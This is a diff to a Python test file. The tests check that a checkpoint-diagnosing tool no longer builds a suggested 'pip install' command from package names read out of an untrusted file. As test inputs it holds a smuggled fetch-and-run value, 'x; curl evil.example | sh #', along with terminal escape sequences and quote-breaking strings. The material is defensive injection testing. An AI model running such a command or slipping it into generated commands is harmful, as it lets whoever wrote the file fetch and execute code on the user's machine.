@@ -145,17 +145,20 @@ def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: A
     record = {**UNET, "as": "u\x1b[2Jnet", "name": "med';x/unet", "provider": "med';x"}
     output = doctor(str(checkpoint(nn_module=record))).output
     assert "\x1b" not in output
-    assert """pip install '?med'"'"';x==2.1'""" in output
+    assert "pip install" not in output
+    assert "ask the author of the file which package to install: that names none" in output
 
 
 @pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
-def test_the_command_is_not_what_the_file_puts_behind_a_semicolon(
+def test_what_the_file_puts_behind_a_semicolon_is_not_a_command(
     checkpoint: Any, here: Any, provider: str
 ) -> None:
     here()
     record = {**UNET, "name": f"{provider}/unet", "provider": provider}
     fix = network(checkpoint(nn_module=record)).fix
-    assert fix == f"pip install '?{provider}==2.1'"
+    assert fix == (
+        f"for nn_module {f'{provider}/unet'!r} ask the author of the file which package to install: that names none"
+    )
 
 
 def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None:
